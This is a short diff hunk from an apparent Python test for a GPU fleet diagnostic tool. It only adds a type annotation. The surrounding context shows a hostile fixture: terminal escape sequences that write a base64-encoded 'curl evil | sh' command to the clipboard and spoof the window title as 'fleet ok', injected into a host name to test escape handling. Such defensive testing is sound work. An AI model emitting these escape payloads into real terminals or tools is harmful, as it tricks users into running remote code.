@@ -247,7 +247,7 @@ OSC = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;fleet ok\x1b\\\x1bP1$r\x1b\\\u20
 
 
 def _hostile(reports: dict[str, str]) -> dict[str, Any]:
-    evil = json.loads(reports["gpu-f"])  # driver-missing, as gpu-b is not
+    evil: dict[str, Any] = json.loads(reports["gpu-f"])  # driver-missing, as gpu-b is not
     evil["host"]["name"] = evil["host"]["k8s_node_name"] = f"gpu-z{OSC}"
     evil["host"]["hostname"] = evil["host"]["k8s_pod_name"] = "ortdoctor-zx7k2"
     for f in evil["findings"]:
